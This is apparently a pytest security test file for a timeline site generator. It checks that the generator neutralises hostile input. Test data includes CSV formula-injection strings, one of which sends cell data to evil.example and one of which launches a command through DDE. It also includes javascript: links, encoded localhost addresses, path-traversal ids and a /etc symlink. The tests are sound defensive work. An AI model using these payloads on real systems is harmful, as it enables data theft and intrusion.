"""Hostile input beyond the named data cases: seeds, folders, sizes, exports, reporters and commands.

Each test is named for the class of attack it closes (SECURITY.md lists them); the reproduction
from the audit comes first, then variants a browser, a spreadsheet or a YAML parser reads differently.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path
from types import SimpleNamespace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from generator import export, quotes
from generator.check import check
from generator.cli import main
from generator.config import SiteConfig
from generator.model import Actor, load_dataset
from generator.plugin import TimelinePlugin
from generator.site import GeneratedPageError, Site, front_matter
from generator.urls import url_problem
from tests.cases import HARBOUR, REPO, base_tree, copy_site
from tests.conftest import build_site

EVENT_HEAD = "# yaml-language-server: $schema=../../schemas/event.schema.json\n"
ACTOR_HEAD = "# yaml-language-server: $schema=../../schemas/actor.schema.json\n"
SEED_HEAD = "# yaml-language-server: $schema=../schemas/seed.schema.json\n"


@pytest.fixture()
def tree(tmp_path: Path) -> Path:
    return base_tree(tmp_path / "repo")


def _cli(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "generator", *args], capture_output=True, text=True,
                          cwd=cwd or REPO, env={**os.environ, "PYTHONPATH": str(REPO)}, timeout=300)


def _codes(root: Path) -> set[tuple[str, str]]:
    _, result = check(root)
    return {(f.path, f.code) for f in result.findings}


def write_event(root: Path, ident: str, date: str, *, title: str = "An event written by a test of hostile input",
                summary: str = "A summary long enough for the schema, written by a test.", status: str = "reported",
                sources: str | None = None, extra: str = "") -> Path:
    year = date.lstrip(".").lstrip("/")[:4]
    path = root / "events" / year / f"{ident}.yaml"
    path.parent.mkdir(parents=True, exist_ok=True)
    sources = sources or ('  - url: https://example.org/story\n    publisher: Example Wire\n'
                          f'    published: "{date.split("/")[-1] if date.split("/")[-1] != ".." else date[:4]}"\n')
    path.write_text(f"{EVENT_HEAD}id: {ident}\ndate: {json.dumps(date)}\ntitle: {json.dumps(title)}\n"
                    f"summary: {json.dumps(summary)}\nstatus: {status}\nactors:\n  participant: [riverside-council]\n"
                    f"sources:\n{sources}{extra}", encoding="utf-8")
    return path


# -- 1. noncharacters: generated pages never depend on a front-matter parse of contributor text ----------

def test_front_matter_that_cannot_be_read_back_stops_the_page(tmp_path) -> None:
    data, _ = load_dataset(HARBOUR)
    site = Site(data, SiteConfig())
    page = site.page("probe/", "tags.html", "A title \ufffe with a noncharacter 😀", rows=[])
    assert front_matter(page.content)["title"] == "A title \ufffe with a noncharacter 😀"  # written escaped, read back
    assert front_matter('---\ntitle: "Pixel \ufffe"\n---\n') == {}  # raw, YAML refuses it: {} is "unreadable"


def test_a_page_whose_front_matter_does_not_read_back_is_never_written(monkeypatch) -> None:
    import generator.site.page as pages

    data, _ = load_dataset(HARBOUR)
    monkeypatch.setattr(pages, "front_matter", lambda content: {})
    with pytest.raises(GeneratedPageError, match="does not read back"):
        Site(data, SiteConfig()).page("probe/", "tags.html", "Any title", rows=[])


def test_plugin_refuses_a_generated_page_whose_metadata_mkdocs_could_not_read() -> None:
    from mkdocs.exceptions import PluginError

    plugin = TimelinePlugin()
    plugin.generated_meta = {"events/x.md": {"title": "Kept", "description": "Kept"}}
    unread = SimpleNamespace(file=SimpleNamespace(src_uri="events/x.md"), meta={})
    with pytest.raises(PluginError, match="did not read back"):
        plugin.on_page_markdown("---\ntitle: ...", unread, None, None)
    read = SimpleNamespace(file=SimpleNamespace(src_uri="events/x.md"), meta={"title": "Kept", "description": "Kept"})
    assert plugin.on_page_markdown("<p>body</p>\n", read, None, None) == ""  # finished HTML skips Markdown
    assert plugin.on_page_content("", read, None, None) == "<p>body</p>"  # and comes back as the content


# -- 3. folder symlinks are never followed ------------------------------------------------------------------

def test_symlinked_data_folders_are_refused(tree: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    (outside / "seeds").mkdir(parents=True)
    (outside / "seeds" / "999_secret.txt").write_text("a secret outside the repository\n")
    (tree / "seeds").rename(tmp_path / "real-seeds")
    (tree / "seeds").symlink_to(outside / "seeds")
    year = tree / "events" / "2025"
    year.rename(tmp_path / "real-2025")
    year.symlink_to(tmp_path / "real-2025")
    tree_codes = _codes(tree)
    assert ("seeds", "symlink") in tree_codes and ("events/2025", "symlink") in tree_codes
    assert not any(path.startswith("seeds/999") for path, _ in tree_codes)  # nothing outside was read
    (tree / "seeds").unlink()
    (tree / "seeds").symlink_to("/etc")
    _, result = check(tree)
    assert not any("passwd" in str(f) or "hostname" in str(f) for f in result.findings)
    events = tree / "events"
    events.rename(tmp_path / "real-events")
    events.symlink_to(tmp_path / "real-events")
    assert ("events", "symlink") in _codes(tree)


def test_seed_texts_are_checked_for_size_lines_and_hidden_characters(tree: Path) -> None:
    seeds = tree / "seeds"
    good = seeds / "001_f6eaeb197de4692c.txt"
    original = good.read_bytes()
    cases = {
        "noncharacter": (original.replace(b"on Friday", "on\ufdd0Friday".encode()), "forbidden-character"),
        "bidi": (original.replace(b"on Friday", "on \u202eFriday".encode()), "forbidden-character"),
        "byte-order-mark": (b"\xef\xbb\xbf" + original, "forbidden-character"),
        "c0-control": (original.replace(b"on Friday", b"on\x01Friday"), "forbidden-character"),
        "too-long-line": (b"a" * 20_001 + b"\n", "line-too-long"),
        "too-large": (b"a b c d e\n" * 30_000, "file-too-large"),
        "not-utf8": (original.replace(b"Friday", b"Fr\xffday"), "encoding"),
    }
    for name, (content, code) in cases.items():
        good.write_bytes(content)
        found = _codes(tree)
        assert ("seeds/001_f6eaeb197de4692c.txt", code) in found, name
        # the metadata is not told its text is missing: the text's own finding says what is wrong
        assert ("seeds/001_f6eaeb197de4692c.yaml", "missing-seed-text") not in found, name
    good.write_bytes(original.replace(b"on Friday", b"on\tFriday").replace(b"\n", b"\r\n"))
    assert not [c for p, c in _codes(tree) if p.startswith("seeds/000")]  # tabs and CR LF are plain text


# -- 4. what the checker accepts, the build renders ----------------------------------------------------------

def test_dates_at_the_ends_of_the_accepted_range_build(tmp_path) -> None:
    root = copy_site(tmp_path / "repo")
    write_event(root, "0001-01-01-earliest-possible-day", "0001-01-01", extra=(
        "figures:\n  - metric: passengers\n    value: 1\n    qualifier: exact\n    as_of: \"0001-01\"\n"
        "    claimed_by: [riverside-council]\n"))
    write_event(root, "9998-latest-possible-year", "9998", status="expected",
                sources='  - url: https://example.org/plan\n    publisher: Example Wire\n    published: "2024-10-18"\n',
                extra=("figures:\n  - metric: passengers\n    value: 2\n    qualifier: exact\n"
                       "    as_of: \"9998-12\"\n    claimed_by: [riverside-council]\n"))
    write_event(root, "9998-24-winter-at-the-end", "9998-24", status="expected",
                sources='  - url: https://example.org/plan\n    publisher: Example Wire\n    published: "2024-10-18"\n')
    _, result = check(root)
    assert result.errors == [], [str(f) for f in result.errors]
    run = build_site(root, tmp_path / "site")
    assert run.returncode == 0, run.stderr
    timeline = (tmp_path / "site" / "timeline" / "index.html").read_text()
    assert "Events per century" in timeline  # ten thousand years are drawn in a hundred bars, not 120,000
    assert timeline.count('class="tl-overview__bar"') <= 240
    assert "0001-01-01-earliest-possible-day" in (tmp_path / "site" / "data" / "events.ics").read_text().replace("\r\n ", "")


def test_tag_ids_that_collide_with_generated_pages_are_refused(tree: Path) -> None:
    with open(tree / "events" / "tags.yaml", "a", encoding="utf-8") as tags:
        tags.write("index:\n  label: Index\n  description: A tag whose page would replace the list of tags.\n"
                   "aux:\n  label: Aux\n  description: A tag named like a Windows device.\n")
    found = _codes(tree)
    assert ("events/tags.yaml", "reserved-id") in found
    _, result = check(tree)
    assert len([f for f in result.findings if f.code == "reserved-id"]) == 2


def test_an_empty_dataset_builds_a_valid_empty_site(tmp_path) -> None:
    root = copy_site(tmp_path / "repo")
    for year in (root / "events").glob("[0-9]*"):
        for event in year.glob("*.yaml"):
            event.unlink()
    run = build_site(root, tmp_path / "site")
    assert run.returncode == 0, run.stderr
    home = (tmp_path / "site" / "index.html").read_text()
    assert "no events yet" in home
    assert json.loads((tmp_path / "site" / "data" / "events.json").read_text())["events"] == []


def test_actor_of_a_kind_the_pages_do_not_know_is_still_listed() -> None:
    data, _ = load_dataset(HARBOUR)
    data.actors["acme-corporation"] = Actor(id="acme-corporation", name="Acme Corporation", kind="port-regulator",
                                            description="An actor of a kind added to the schema later.")
    from generator.site.views import actors as actor_views
    [page] = actor_views.build_index(Site(data, SiteConfig()))
    assert "Acme Corporation" in page.content and "Port regulator" in page.content


# -- 5. CSV formula injection -------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"Open")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tTab first",
            "\rCarriage return first", "  =cmd|' /C calc'!A0", "\uff1dfull-width equals"]


def test_csv_cells_never_start_a_formula_and_json_keeps_every_value(tmp_path) -> None:
    data, _ = load_dataset(HARBOUR)
    assert len(data.events) > len(FORMULAS) - 2
    formulas = FORMULAS[:len(data.events) - 1]  # the last event keeps an ordinary title
    for event, title in zip(data.events, formulas, strict=False):
        event.title = title
        event.notes = title
    rows = list(csv.DictReader(io.StringIO(export.export(data, "csv", SiteConfig()), newline="")))
    by_id = {row["id"]: row for row in rows}
    for event, title in zip(data.events, formulas, strict=False):
        assert by_id[event.id]["title"] == "'" + title, title
        assert by_id[event.id]["notes"] == "'" + title
    records = {e["id"]: e for e in json.loads(export.export(data, "json", SiteConfig()))["events"]}
    for event, title in zip(data.events, formulas, strict=False):
        assert records[event.id]["title"] == title
    assert rows[-1]["title"] == data.events[-1].title  # ordinary text is left alone


# -- 6. denial of service from small files -------------------------------------------------------------------

@settings(max_examples=300, deadline=None)
@given(text=st.text(alphabet="ab \n", max_size=60), quote=st.text(alphabet="ab ", min_size=1, max_size=6))
def test_quote_spans_agree_with_a_brute_force_search(text: str, quote: str) -> None:
    haystack, where = quotes.normalise_with_map(text)
    needle = quotes.normalise(quote)
    expected: list[list[int]] = []
    for start in range(len(haystack)):
        if needle and haystack.startswith(needle, start):
            if expected and start <= expected[-1][1]:
                expected[-1][1] = start + len(needle)
            else:
                expected.append([start, start + len(needle)])
    assert quotes.find_spans(quote, text) == [(where[s], where[e - 1] + 1) for s, e in expected]


def test_hostile_sizes_check_and_build_in_seconds(tmp_path) -> None:
    root = copy_site(tmp_path / "repo")
    # A seed that a two-word quote matches every six characters, across every line: 200 events
    # quoting it made millions of overlapping spans, and the source page quadratic (353 s for 60 KB).
    line = ("aaaaa " * 3333).strip()
    (root / "seeds" / "005_aaaaaaaaaaaaaaaa.txt").write_text((line + "\n") * 12, encoding="utf-8")
    (root / "seeds" / "005_aaaaaaaaaaaaaaaa.yaml").write_text(
        SEED_HEAD + "id: 005_aaaaaaaaaaaaaaaa\ntitle: A page of one letter\ntitle_source: descriptive\n"
        "publisher: null\nurl: null\npublished: \"2024-10\"\npublished_basis: Written for a test of sizes.\n"
        "language: en\n", encoding="utf-8")
    for n in range(200):  # and each summary at the limit of brackets Python-Markdown parses slowly
        write_event(root, f"2024-10-many-brackets-{n:03d}", "2024-10", summary="[" * 20 + " a summary at the limit",
                    sources='  - seed: 005_aaaaaaaaaaaaaaaa\n    quote: "aaaaa aaaaa"\n')
    started = time.monotonic()
    _, result = check(root)
    assert result.errors == [], [str(f) for f in result.errors[:5]]
    run = build_site(root, tmp_path / "site")
    assert run.returncode == 0, run.stderr
    assert time.monotonic() - started < 240  # a guard against the quadratic paths, not a speed target
    source = (tmp_path / "site" / "sources" / "005_aaaaaaaaaaaaaaaa" / "index.html").read_text()
    assert source.count("<mark") == 12 + 1  # one highlight per line (merged, not 40,000), and the key


def test_parent_chain_of_two_thousand_actors_is_checked_in_seconds(tree: Path) -> None:
    actors = tree / "events" / "actors"
    count = 2000
    for n in range(count):
        parent = f"chain-{(n + 1) % count:04d}"
        (actors / f"chain-{n:04d}.yaml").write_text(
            f"{ACTOR_HEAD}id: chain-{n:04d}\nname: Link {n}\nkind: person\nparent: {parent}\n"
            "description: One link of a long chain of parents.\n", encoding="utf-8")
    started = time.monotonic()
    _, result = check(tree)
    elapsed = time.monotonic() - started
    loops = [f for f in result.findings if f.code == "parent-cycle"]
    assert len(loops) == count  # every actor on the loop is told, each message short
    assert max(len(f.message) for f in loops) < 200
    assert elapsed < 30, elapsed  # was 85 s when each actor walked the whole chain


# -- 7. URL rules a browser gets around ----------------------------------------------------------------------

BROWSER_HOSTS = ["https://127.1/", "https://0x7f.1/", "https://0177.0.0.1/", "https://2130706433/",
                 "https://0x7f000001/", "https://127.0.0.1./", "https://%31%32%37.0.0.1/", "https://localhost./",
                 "https://LOCALHOST/", "https://%6c%6f%63%61%6c%68%6f%73%74/", "https://[::1]/",
                 "https://[::ffff:127.0.0.1]/", "https://example.org./", "https://example.org/",
                 "https://xn--bcher-kva.example/", "https://sub.example.org:8443/x"]


@pytest.mark.browser
def test_hosts_are_judged_as_chromium_reads_them(browser) -> None:
    page = browser.new_page()
    try:
        for url in BROWSER_HOSTS:
            host = page.evaluate("u => new URL(u).hostname", url)
            looks_local = host.startswith("[") or host.replace(".", "").isdigit() or host in ("localhost", "localhost.")
            problem = url_problem(url)
            if looks_local:
                assert problem is not None, (url, host)
            else:
                assert problem is None or "trailing" in problem, (url, host, problem)
    finally:
        page.close()


def test_rendered_summary_links_are_https_or_pages_of_this_site() -> None:
    from generator.site.render import summary_html

    html = str(summary_html("[a](//127.0.0.1/x) [b](/\\evil.example/p) [c](/events/x/#y) [d](https://127.1/) "
                            "[e](https://example.org/ok) [f](javascript:alert(1)) [g](/timeline/)", "../../"))
    hrefs = [part.split('"')[1] for part in html.split("href=")[1:]]
    assert hrefs == ["../../events/x/#y", "https://example.org/ok", "../../timeline/"]


# -- 8. reporters print what a file name or key holds, escaped ---------------------------------------------

def test_reporters_escape_control_characters_in_file_names_and_keys(tree: Path) -> None:
    forged = "x.yaml:1:1: error: [fake] forged"
    year = tree / "events" / "2024"
    (year / f"evil\n{forged}.yaml").write_text("id: x\n")
    case = year / "2024-10-08-keys.yaml"
    case.write_text(f'{EVENT_HEAD}"id\\n{forged}": 1\n', encoding="utf-8")
    text = _cli("check", "--root", str(tree))
    github = _cli("check", "--root", str(tree), "--format", "github")
    for output in (text.stdout, github.stdout):
        assert not any(line.startswith("x.yaml:") or line.startswith("::error file=x.yaml") for line in output.splitlines())
    assert "\\u000a" in text.stdout  # in the message, GitHub's own %0A escape keeps the newline inside one annotation
    assert "::error file=events/2024/evil\\u000ax.yaml%3A1%3A1%3A" in github.stdout


# -- commands that lose data or mislead ----------------------------------------------------------------------

def _snapshot(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def test_pages_never_replaces_what_it_did_not_write(tmp_path) -> None:
    root = copy_site(tmp_path / "repo")
    (root / ".git").mkdir()
    (root / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    before = _snapshot(root)
    for out, why in ((".", "holds the repository"), ("docs", "inside the repository's docs/"),
                     ("events", "inside the repository's events/"), ("..", "holds the repository"),
                     ("seeds/x", "inside the repository's seeds/")):
        run = _cli("pages", "--root", str(root), "--out", out, cwd=root)
        assert run.returncode == 2 and why in run.stderr and "Traceback" not in run.stderr, (out, run.stderr)
    outside = _cli("pages", "--root", str(root), "--out", str(tmp_path / "elsewhere"), cwd=root)
    assert outside.returncode == 2 and "--force" in outside.stderr
    (root / "notes").mkdir()
    (root / "notes" / "mine.txt").write_text("my own notes\n")
    foreign = _cli("pages", "--root", str(root), "--out", "notes", cwd=root)
    assert foreign.returncode == 2 and "was not written by 'pages'" in foreign.stderr
    assert _snapshot(root) == {**before, "notes/mine.txt": b"my own notes\n"}
    first = _cli("pages", "--root", str(root), "--out", "build/pages", cwd=root)
    assert first.returncode == 0, first.stderr
    again = _cli("pages", "--root", str(root), "--out", "build/pages", cwd=root)
    assert again.returncode == 0, again.stderr  # its own output may be replaced
    (root / "build" / "pages" / "added-by-hand.md").write_text("keep me\n")
    third = _cli("pages", "--root", str(root), "--out", "build/pages", cwd=root)
    assert third.returncode == 2 and "added-by-hand.md" in third.stderr
    assert (root / "build" / "pages" / "added-by-hand.md").read_text() == "keep me\n"


def test_check_with_a_path_that_names_no_data_file_is_a_usage_error(tree: Path) -> None:
    for path in ("events/2024/does-not-exist.yaml", "README.md", "../etc/passwd", "/etc/passwd", "events/../docs"):
        run = _cli("check", "--root", str(tree), path)
        assert run.returncode == 2 and "names no data file" in run.stderr, (path, run.stdout, run.stderr)
    assert _cli("check", "--root", str(tree), "events/2024").returncode == 0


def test_check_outside_a_project_is_a_usage_error(tmp_path) -> None:
    run = _cli("check", cwd=tmp_path)
    assert run.returncode == 2 and "holds no events/ folder" in run.stderr


def test_new_validates_its_options_and_writes_nothing_the_check_refuses(tree: Path) -> None:
    from click.testing import CliRunner

    base = ["new", "--root", str(tree), "--date", "2024-10-18", "--title", "A title long enough for the schema",
            "--summary", "A summary long enough for the schema to accept it.", "--status", "reported",
            "--actor", "participant=north-korea", "--url", "https://example.org/x", "--publisher", "Example",
            "--published", "2024-10-18", "--no-interactive"]
    before = _snapshot(tree)
    for ident in ("../../../evil", "../actors/evil", "index", "Upper-Case", "2024-10-18-ok/../../x"):
        result = CliRunner().invoke(main, [*base, "--id", ident])
        assert result.exit_code == 2 and "is not a valid id" in result.output, (ident, result.output)
        assert result.exception is None or isinstance(result.exception, SystemExit)
    refused = CliRunner().invoke(main, [*base[:6], "A title \u202e with a bidi control", *base[7:]])
    assert refused.exit_code == 1 and "nothing written" in refused.output
    assert _snapshot(tree) == before


def test_export_never_overwrites_data_or_an_existing_file_unasked(tree: Path, tmp_path: Path) -> None:
    target = tree / "events" / "2024" / "2024-10-08-first-repairs.yaml"
    before = target.read_bytes()
    run = _cli("export", "--root", str(tree), "--format", "json", "-o", str(target))
    assert run.returncode == 2 and "inside the repository's events/" in run.stderr
    assert target.read_bytes() == before
    existing = tmp_path / "mine.json"
    existing.write_text("mine\n")
    run = _cli("export", "--root", str(tree), "--format", "json", "-o", str(existing))
    assert run.returncode == 2 and "--force" in run.stderr and existing.read_text() == "mine\n"
    run = _cli("export", "--root", str(tree), "--format", "json", "-o", str(existing), "--force")
    assert run.returncode == 0 and json.loads(existing.read_text())["events"]


def test_check_of_a_tree_holding_every_invalid_case_at_once_finishes_in_seconds(tree: Path) -> None:
    from tests.cases import place_every_case

    placed = place_every_case(tree)
    started = time.monotonic()
    run = _cli("check", "--root", str(tree), "--format", "json")
    assert run.returncode == 1 and "Traceback" not in run.stderr
    assert time.monotonic() - started < 60
    reported = {finding["path"] for finding in json.loads(run.stdout)}
    assert len(reported) >= placed - 5  # nearly every case file is reported; the rest are refused by folder


# -- found by an independent attack after the first fixes ------------------------------------------------------

def test_characters_beyond_the_basic_plane_build_everywhere(tmp_path) -> None:
    root = copy_site(tmp_path / "repo")
    event = root / "events" / "2024" / "2024-10-08-first-repairs.yaml"
    event.write_text(event.read_text().replace("title: ", "title: 😀 𠮷 𝐚 ", 1), encoding="utf-8")
    actor = root / "events" / "actors" / "riverside-courier.yaml"
    actor.write_text(actor.read_text().replace("description: ", "description: 🇺🇸 ", 1), encoding="utf-8")
    tags = root / "events" / "tags.yaml"
    tags.write_text(tags.read_text().replace("label: ", "label: 𝐚 ", 1), encoding="utf-8")
    _, result = check(root)
    assert result.errors == []
    run = build_site(root, tmp_path / "site")
    assert run.returncode == 0, run.stderr[-2000:]
    page = (tmp_path / "site" / "events" / event.stem / "index.html").read_text()
    assert "😀 𠮷 𝐚" in page


def test_near_miss_references_to_a_long_vocabulary_are_checked_in_seconds(tree: Path) -> None:
    with open(tree / "events" / "tags.yaml", "a", encoding="utf-8") as tags:
        for n in range(190):
            tags.write(f"{'a' * 70}-tag-{n:04d}:\n  label: Tag {n}\n  description: One of many similar tags.\n")
    for n in range(8):
        unknown = ", ".join(f"{'a' * 70}-tgg-{n * 40 + k:04d}" for k in range(40))
        write_event(tree, f"2024-10-near-miss-{n}", "2024-10", extra=f"tags: [{unknown}]\n")
    started = time.monotonic()
    _, result = check(tree)
    assert time.monotonic() - started < 30  # 56 s before did-you-mean had a budget
    assert len([f for f in result.errors if f.code == "unknown-tag"]) == 320


def test_json_reporter_escapes_what_a_terminal_would_act_on(tree: Path) -> None:
    (tree / "events" / "2024" / "\u202eevil\x9b.yaml").write_text("id: x\n")
    run = _cli("check", "--root", str(tree), "--format", "json")
    assert run.returncode == 1 and "\u202e" not in run.stdout and "\x9b" not in run.stdout
    assert any("\u202e" in f["path"] for f in json.loads(run.stdout))  # decoded, it is the real name


def test_commands_report_unwritable_targets_and_bad_addresses_without_a_traceback(tree: Path, tmp_path: Path) -> None:
    for args in (("export", "--format", "json", "-o", "README.md/x.csv"),
                 ("export", "--format", "json", "--site-url", "javascript:alert(1)//"),
                 ("pages", "--out", "build/p", "--repo-url", "javascript:alert(1)//"),
                 ("export", "--format", "json", "--site-url", 'https://x/"><x')):
        (tree / "README.md").write_text("a file, not a folder\n")
        run = _cli(*args[:1], "--root", str(tree), *args[1:], cwd=tree)
        assert run.returncode in (1, 2) and "Traceback" not in run.stderr, (args, run.stderr)
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    shutil.rmtree(tree / "events" / "2025")
    (tree / "events" / "2025").symlink_to(outside)
    from click.testing import CliRunner
    result = CliRunner().invoke(main, ["new", "--root", str(tree), "--date", "2025-03-01", "--date-text", "on 1 March",
                                       "--title", "A title long enough for the schema", "--summary",
                                       "A summary long enough for the schema to accept it.", "--status", "reported",
                                       "--actor", "participant=north-korea", "--url", "https://example.org/x",
                                       "--publisher", "Example", "--published", "2025-03-02", "--no-interactive"])
    assert result.exit_code == 1 and "symbolic link" in result.output and not list(outside.iterdir())
